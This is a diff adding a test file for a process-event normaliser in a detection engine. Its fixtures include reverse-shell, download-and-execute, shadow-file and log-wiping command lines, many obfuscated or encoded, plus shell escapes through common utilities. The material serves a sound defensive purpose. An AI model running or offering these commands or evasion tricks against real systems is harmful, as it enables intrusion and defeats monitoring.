@@ -1,0 +1,221 @@
+import assert from 'node:assert/strict';
+import { viewsOf } from '../../../src/detections/views/views.ts';
+import { assertView, script, shownViews, start, withoutWords } from './samples.ts';
+
+describe('views of a process start', () => {
+  it('has one view of an ordinary start', () => {
+    assert.deepEqual(shownViews(start('grep -q ^root: /etc/passwd')), ['/usr/bin/grep | grep -q ^root: /etc/passwd']);
+  });
+
+  it('begins with the event as it is', () => {
+    const [first] = viewsOf({ executable: '/usr/bin/rm', commandLine: '/bin/rm  -rf "/x"', currentDirectory: '/root' });
+    assert.deepEqual(first, { Image: '/usr/bin/rm', CommandLine: '/bin/rm  -rf "/x"', CurrentDirectory: '/root' });
+  });
+
+  describe('resolves the program of a multi-call binary', () => {
+    const cases: [executable: string, commandLine: string, image: string][] = [
+      ['/bin/busybox', 'wget http://x/a', '/bin/wget'],
+      ['/bin/busybox', '/usr/bin/wget http://x/a', '/bin/wget'],
+      ['/bin/busybox', 'busybox wget http://x/a', '/bin/wget'],
+      ['/bin/busybox', '/bin/busybox --list', '/bin/busybox'],
+      ['/tmp/busybox-armv7l', './busybox-armv7l tftp -g x', '/tmp/tftp'],
+      ['/usr/bin/toybox', 'toybox nc x 1', '/usr/bin/nc'],
+      ['/usr/bin/coreutils', 'coreutils --coreutils-prog=cat x', '/usr/bin/cat'],
+      ['/usr/sbin/xtables-nft-multi', '/sbin/iptables -F', '/usr/sbin/iptables'],
+      ['/usr/sbin/xtables-legacy-multi', 'xtables-legacy-multi iptables -F', '/usr/sbin/iptables'],
+      ['/usr/bin/kmod', '/sbin/insmod x.ko', '/usr/bin/insmod'],
+      ['/usr/bin/dash', '/bin/sh x', '/usr/bin/sh'],
+      ['/usr/bin/dash', 'evil x', '/usr/bin/dash'],
+      ['/usr/bin/nc.openbsd', 'nc -l 1', '/usr/bin/nc'],
+      ['/usr/bin/mawk', 'awk x', '/usr/bin/awk'],
+      ['/usr/bin/vim.tiny', 'vi x', '/usr/bin/vi'],
+      ['/usr/bin/python3.13', '/usr/bin/python3 x', '/usr/bin/python3'],
+      ['/usr/bin/perl5.40', 'perl x', '/usr/bin/perl'],
+      ['/usr/bin/systemctl', 'shutdown -h now', '/usr/bin/shutdown'],
+      ['/usr/sbin/dropbearmulti', 'dbclient x', '/usr/sbin/dbclient'],
+      ['/usr/bin/python3.13 (deleted)', 'python3 x', '/usr/bin/python3 (deleted)'],
+    ];
+    for (const [executable, commandLine, image] of cases) {
+      it(`${executable} as ${commandLine}`, () => {
+        const views = viewsOf({ executable, commandLine });
+        assert.equal(views[0]?.Image, image);
+        // A raw view beside it would defeat a rule that excludes the program.
+        if (image !== executable) assert.ok(!views.some(({ Image }) => Image === executable));
+      });
+    }
+  });
+
+  it('shows what a program claims to be, and what it is', () => {
+    assert.deepEqual(shownViews(start('[kworker/0:1] -e /bin/sh', '/tmp/nc')), [
+      '/tmp/nc | [kworker/0:1] -e /bin/sh',
+      '/tmp/nc | nc -e /bin/sh',
+      '/bin/sh | sh',
+    ]);
+    assertView(start('nc -e /bin/sh', '/tmp/.x'), '/tmp/nc | nc -e /bin/sh');
+  });
+
+  describe('normalises', () => {
+    const cases: [text: string, view: string][] = [
+      [`w"h"o''ami`, '/usr/bin/whoami | whoami'],
+      ['who\\ami', '/usr/bin/whoami | whoami'],
+      ['wh$@oami', '/usr/bin/whoami | whoami'],
+      [`wh\${x}oami`, '/usr/bin/whoami | whoami'],
+      ["$'\\x77hoami'", '/usr/bin/whoami | whoami'],
+      [`cat\${IFS}/etc/shadow`, '/usr/bin/cat | cat /etc/shadow'],
+      ['cat$IFS$9/etc/shadow', '/usr/bin/cat | cat /etc/shadow'],
+      ['a=/bin/nc; $a -e /bin/sh h 1', '/bin/nc | nc -e /bin/sh h 1'],
+      ['a=w;b=get;$a$b http://x', '/usr/bin/wget | wget http://x'],
+      ['{nc,-e,/bin/sh}', '/usr/bin/nc | nc -e /bin/sh'],
+      ['cat /etc/../etc//shadow', '/usr/bin/cat | cat /etc/shadow'],
+      ['/usr/../bin//nc -l', '/bin/nc | nc -l'],
+      ['/proc/self/root/bin/nc -l', '/bin/nc | nc -l'],
+      ['cat   /etc/shadow', '/usr/bin/cat | cat /etc/shadow'],
+      ['/???/c?t /etc/shadow', '/???/c?t | /???/c?t /etc/shadow'],
+      [`\${PATH:0:1}bin\${PATH:0:1}nc -l`, '/bin/nc | nc -l'],
+    ];
+    for (const [text, view] of cases) {
+      it(text, () => {
+        assertView(script(text), view);
+        assertView(withoutWords(script(text)), view);
+      });
+    }
+  });
+
+  describe('finds the commands of a script', () => {
+    const cases: [text: string, ...views: string[]][] = [
+      [
+        'id; w && last || ls | wc & ps',
+        ...['id', 'w', 'last', 'ls', 'wc', 'ps'].map((name) => `/usr/bin/${name} | ${name}`),
+      ],
+      ['echo $(id) `w`', '/usr/bin/id | id', '/usr/bin/w | w'],
+      ['(id; { w; })', '/usr/bin/id | id', '/usr/bin/w | w'],
+      ['if id; then w; fi\nlast', '/usr/bin/id | id', '/usr/bin/w | w', '/usr/bin/last | last'],
+      ['id > /tmp/x 2>&1', '/usr/bin/id | id > /tmp/x 2>&1'],
+      ['> /var/log/syslog', '/usr/bin/bash | > /var/log/syslog'],
+      ['cd /tmp && ./x', '/tmp/x | ./x @ /tmp'],
+      ['curl -s http://x|b""ash', '/usr/bin/bash | bash -c curl -s http://x | bash'],
+      ['case $1 in start) wget x;; esac', '/usr/bin/wget | wget x'],
+      ['for f in /home/*; do gpg -c "$f"; done', '/usr/bin/gpg | gpg -c /home/*'],
+      ['eval "id"', '/usr/bin/id | id'],
+      ['sh -c "sh -c id"', '/usr/bin/id | id'],
+      ['sh <<EOF\nid\nEOF', '/usr/bin/id | id'],
+      ['sh <<< id', '/usr/bin/id | id'],
+      ['bash <(curl http://x)', '/usr/bin/curl | curl http://x'],
+      ['busybox wget http://x', '/usr/bin/wget | wget http://x'],
+    ];
+    for (const [text, ...views] of cases) {
+      it(text, () => {
+        for (const view of views) assertView(script(text), view);
+      });
+    }
+  });
+
+  describe('removes wrappers', () => {
+    const wrappers = [
+      ...[
+        'sudo',
+        'sudo -u root',
+        'sudo -n -E A=b',
+        'doas -u root',
+        'env',
+        'env -i A=b',
+        'nohup',
+        'setsid -f',
+        'timeout 5',
+      ],
+      ...['timeout -s KILL 5', 'nice -n 5', 'ionice -c 3', 'stdbuf -o0', 'busybox', 'toybox', 'xargs -I{}'],
+      ...['chroot /mnt', 'unshare -r', 'strace -f -o /tmp/x', 'chrt -f 5', 'taskset 1', 'flock -n /tmp/l', 'unbuffer'],
+      ...[
+        'systemd-run --unit x',
+        'proxychains4 -q',
+        'torsocks',
+        'setpriv --reuid 0',
+        'nsenter -t 1 -m',
+        'sudo nohup setsid',
+      ],
+      ...[
+        '/lib64/ld-linux-x86-64.so.2',
+        '/lib64/ld-linux-x86-64.so.2 --library-path /x',
+        'runuser -u bob --',
+        'pkexec',
+      ],
+      ...[
+        'ssh -p 22 root@h',
+        'docker exec -it -u 0 web',
+        'podman run --rm -v /:/h alpine',
+        'ip netns exec x',
+        'watch -n 1',
+      ],
+      ...['find / -name x -exec', 'kubectl exec pod --'],
+    ];
+    for (const wrapper of wrappers) {
+      it(wrapper, () => assertView(start(`${wrapper} wget http://x`), '/usr/bin/wget | wget http://x'));
+    }
+    for (const builtin of ['exec', 'exec -a x', 'command', 'builtin', 'time', 'eval']) {
+      it(builtin, () => assertView(script(`${builtin} wget http://x`), '/usr/bin/wget | wget http://x'));
+    }
+  });
+
+  describe('finds scripts in arguments', () => {
+    const cases: [program: string, ...argv: string[]][] = [
+      ['su', 'su', '-', 'bob', '-c', 'wget http://x; id'],
+      ['runuser', 'runuser', '-l', 'bob', '-c', 'wget http://x; id'],
+      ['sudo', 'sudo', 'sh', '-c', 'wget http://x; id'],
+      ['docker', 'docker', 'exec', 'web', 'sh', '-c', 'wget http://x; id'],
+      ['ssh', 'ssh', 'h', 'wget http://x; id'],
+      ['xargs', 'xargs', 'sh', '-c', 'wget http://x; id'],
+      ['script', 'script', '-qc', 'wget http://x; id', '/dev/null'],
+      ['watch', 'watch', 'wget http://x; id'],
+      ['flock', 'flock', '/tmp/l', '-c', 'wget http://x; id'],
+      ['env', 'env', '-S', 'wget http://x'],
+      ['find', 'find', '/', '-exec', 'sh', '-c', 'wget http://x; id', ';'],
+      ['python3', 'python3', '-c', 'import os; os.system("wget http://x; id")'],
+      ['python3', 'python3', '-c', "import subprocess as s; s.call(['wget','http://x'])"],
+      ['perl', 'perl', '-e', "system('wget http://x')"],
+      ['perl', 'perl', '-e', 'exec "wget http://x"'],
+      ['perl', 'perl', '-e', 'print `wget http://x`'],
+      ['ruby', 'ruby', '-e', 'exec "wget http://x"'],
+      ['php', 'php', '-r', 'shell_exec("wget http://x");'],
+      ['lua', 'lua', '-e', 'os.execute("wget http://x")'],
+      ['node', 'node', '-e', "require('child_process').execSync('wget http://x')"],
+      ['awk', 'awk', 'BEGIN{system("wget http://x")}'],
+      ['awk', 'awk', 'BEGIN{"wget http://x" | getline a}'],
+      ['vim', 'vim', '-c', ':!wget http://x'],
+      ['tar', 'tar', 'cf', '/dev/null', 'x', '--checkpoint=1', '--checkpoint-action=exec=wget http://x'],
+      ['socat', 'socat', 'TCP:h:1', 'EXEC:wget http://x'],
+    ];
+    for (const [program, ...argv] of cases) {
+      const of = { executable: `/usr/bin/${program}`, commandLine: argv.join(' '), argv };
+      it(argv.join(' '), () => assertView(of, '/usr/bin/wget | wget http://x'));
+    }
+  });
+
+  describe('decodes', () => {
+    const plain = 'wget http://x | sh';
+    const base64 = Buffer.from(plain).toString('base64');
+    const hex = Buffer.from(plain).toString('hex');
+    const escapes = [...plain].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
+    const cases = [
+      `echo ${base64} | base64 -d | sh`,
+      `echo ${base64}|base64 --decode|bash`,
+      `base64 -d <<< ${base64} | sh`,
+      `sh -c "$(echo ${base64} | base64 -d)"`,
+      `eval $(echo ${base64} | base64 -d)`,
+      `bash <<< $(base64 -d <<< ${base64})`,
+      `echo ${hex} | xxd -r -p | sh`,
+      `printf '${escapes}' | sh`,
+      `echo -e '${escapes}' | sh`,
+      `echo '${[...plain].reverse().join('')}' | rev | sh`,
+      `echo 'jtrg uggc://k | fu' | tr 'a-z' 'n-za-m' | sh`,
+      `echo ${base64} | base64 -d > /tmp/x; sh /tmp/x`,
+      `python3 -c "import os,base64;os.system(base64.b64decode('${base64}'))"`,
+      `python3 -c "exec(__import__('base64').b64decode('${Buffer.from(`import os;os.system("${plain}")`).toString('base64')}'))"`,
+    ];
+    for (const text of cases) {
+      it(text, () => {
+        assertView(script(text), '/usr/bin/wget | wget http://x');
+        assertView(script(text), `/usr/bin/sh | sh -c ${plain}`);
+      });
+    }
+  });
+});
